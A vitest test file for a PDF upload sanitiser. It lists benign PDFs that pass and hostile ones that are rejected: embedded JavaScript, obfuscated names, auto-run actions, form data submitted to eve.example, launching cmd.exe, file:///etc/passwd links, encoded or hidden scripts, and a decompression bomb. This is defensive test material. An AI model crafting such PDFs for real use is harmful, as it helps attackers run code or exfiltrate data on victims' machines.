import { deflateSync } from 'node:zlib';
import { afterAll, describe, expect, test } from 'vitest';
import { closeWorkers } from '../../kernel/workers/pool.ts';
import { cleanUpload } from './clean-upload.ts';
import { pdf, pdfOf, pdfStream } from './testing.ts';

afterAll(closeWorkers);

const check = (document: Buffer) => cleanUpload(document, { userId: 'somebody' });
const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
const objects = '<< /Type /ObjStm /First 5 /Filter /FlateDecode >>';

/** Base 85 as PDFs write it. */
const ascii85 = (bytes: Buffer): string => {
  let text = '';
  for (let at = 0; at < bytes.length; at += 4) {
    const group = Buffer.alloc(4);
    const length = bytes.copy(group, 0, at, at + 4);
    let value = group.readUInt32BE();
    const signs = Array.from({ length: 5 }, () => {
      const sign = String.fromCharCode(33 + (value % 85));
      value = Math.floor(value / 85);
      return sign;
    });
    text += signs
      .reverse()
      .slice(0, length + 1)
      .join('');
  }
  return `${text}~>`;
};

/** Stored, not compressed: a word in it stands in the file as it is. */
const stored = (text: string): Buffer => deflateSync(text, { level: 0 });

describe('a PDF that only shows something', () => {
  test.each([
    ['has objects in a packed stream', pdf('<< /Type /Catalog >>', '<< /Type /Page >>')],
    ['opens at a page', pdf('<< /Type /Catalog /OpenAction [3 0 R /FitH null] >>')],
    ['has a link to a website, which waits to be pressed', pdf('<< /S /URI /URI (https://bank.example) >>')],
    ['has a link to an address', pdf('<< /A << /S /URI /URI (mailto:help@bank.example) >> >>')],
    ['has a link within its site', pdf('<< /A << /S /URI /URI (/terms.html) >> >>')],
    ['turns to another page', pdf('<< /A << /S /GoTo /D [3 0 R /Fit] >> >>')],
    ['has a form to fill in', pdf('<< /AcroForm << /Fields [4 0 R] >> >>')],
    ['is signed', pdf('<< /Type /Sig /Filter /Adobe.PPKLite >>')],
    ['has longer names that begin alike', pdf('<< /Launchpad 1 /AAron 2 /XFAx 3 >>')],
    [
      'is written in base 85',
      pdfOf(pdfStream('<< /Filter [/ASCII85Decode /FlateDecode] >>', ascii85(deflateSync('q Q')))),
    ],
    [
      'has a damaged picture',
      pdfOf(pdfStream('<< /Subtype /Image /Filter /FlateDecode >>', Buffer.from('x\x9c\xff\xff', 'latin1'))),
    ],
  ])('is kept as it came: it %s', async (_, document) => {
    expect(await check(document)).toEqual({ mediaType: 'application/pdf', bytes: document });
  });
});

describe('a PDF is refused that', () => {
  test.each([
    ['runs a script', pdf(`<< /OpenAction ${script} >>`)],
    ['runs a script under a disguised name', pdf('<< /OpenAction << /S /J#61va#53cript >> >>')],
    ['hides a script in a packed part', pdf('<< >>', script)],
    ['hides a script under a disguised name in a packed part', pdf('<< >>', '<< /S /#4A#61vaScript >>')],
    ['hides a script at the very end of a packed part', pdf('<< >>', '5 0 /JavaScript')],
    ['does something when it is opened', pdf('<< /OpenAction << /S /Named /N /Print >> >>')],
    ['does something elsewhere when it is opened', pdf('<< /OpenAction 5 0 R >>')],
    ['does something when a page is shown', pdf('<< /Type /Page /AA << /O 5 0 R >> >>')],
    ['does something else on an event', pdf('<< /AA%why\n 5 0 R >>')],
    ['sends what was typed', pdf('<< /S /SubmitForm /F (https://eve.example) >>')],
    ['imports data', pdf('<< /S /ImportData /F (data.fdf) >>')],
    ['opens another document', pdf('<< /S /GoToR /F (\\\\eve.example\\share) >>')],
    ['opens a document within', pdf('<< /S /GoToE /T << >> >>')],
    ['holds a form of another kind', pdf('<< /AcroForm << /XFA [(template) 5 0 R] >> >>')],
    ['starts a program', pdf('<< /S /Launch /F (cmd.exe) >>')],
    ['links to a file', pdf('<< /S /URI /URI (file:///etc/passwd) >>')],
    ['links to a share of a network', pdf('<< /S /URI /URI (\\\\eve.example\\share) >>')],
    ['links to a script', pdf('<< /S /URI /URI ( javascript:alert(1)) >>')],
    ['plays a film', pdf('<< /S /Rendition >>')],
    ['brings a file along', pdf('<< /Type /EmbeddedFile >>')],
    ['cannot be looked into', pdf('<< /Encrypt 5 0 R >>')],
    ['hides a packed script behind a false beginning', pdf('(stream\n)', script)],
    [
      'hides a packed script behind a false end',
      pdfOf(pdfStream(objects, stored(`endstream ${script.padStart(70_000)}`))),
    ],
    [
      'hides a script in base 85',
      pdfOf(pdfStream('<< /Filter /ASCII85Decode >>', ascii85(Buffer.from(script)))),
    ],
    [
      'hides a packed script in base 85',
      pdfOf(pdfStream('<< /Filter [ /A85 /Fl ] >>', ascii85(deflateSync(script)))),
    ],
    [
      'packs twice',
      pdfOf(pdfStream('<< /Filter [/FlateDecode /FlateDecode] >>', deflateSync(deflateSync(script)))),
    ],
    ['encodes in a way that is not undone', pdfOf(pdfStream('<< /Filter /LZWDecode >>', 'x'))],
    ['does so under a disguised name', pdfOf(pdfStream('<< /Filter [/A#48x /Fl] >>', 'x'))],
    ['says elsewhere how it encodes', pdfOf(pdfStream('<< /Filter 9 0 R >>', 'x'))],
    ['holds objects that are not packed', pdfOf(pdfStream('<< /Type /ObjStm >>', 'x'))],
    [
      'transforms its objects',
      pdfOf(pdfStream(`<< /DecodeParms << /Predictor 12 >> ${objects.slice(2)}`, deflateSync('x'))),
    ],
    ['has a damaged part for objects', pdfOf(pdfStream(objects, Buffer.from('x\x9c\xff\xff', 'latin1')))],
    ['unpacks to a bomb', pdf('<< >>', '0'.repeat(201 * 1024 * 1024))],
    ['has no end', Buffer.from('%PDF-1.7\n1 0 obj << >> endobj')],
  ])('%s', async (_, document) => {
    await expect(check(document)).rejects.toMatchObject({ code: 'unsupported_media_type' });
  });
});
